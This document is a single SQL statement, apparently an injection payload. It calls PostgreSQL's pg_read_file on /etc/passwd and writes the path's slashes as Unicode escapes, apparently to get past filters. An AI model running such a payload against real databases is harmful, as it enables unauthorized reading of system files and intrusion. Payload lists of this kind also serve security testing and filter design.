SELECT pg_read_file(U&'\002Fetc\002Fpasswd')
